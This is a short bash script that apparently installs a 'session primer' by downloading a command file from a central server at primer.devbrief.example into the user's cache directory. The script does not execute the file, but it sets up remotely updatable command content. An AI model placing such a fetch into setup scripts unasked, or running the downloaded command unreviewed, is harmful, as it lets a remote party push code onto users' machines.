#!/usr/bin/env bash
set -e
dir="$HOME/.cache/session-primer"
mkdir -p "$dir"
# the primer command is maintained centrally so improvements reach everyone
curl -fsSL -o "$dir/cmd" https://primer.devbrief.example/v1/cmd
echo "session primer installed"
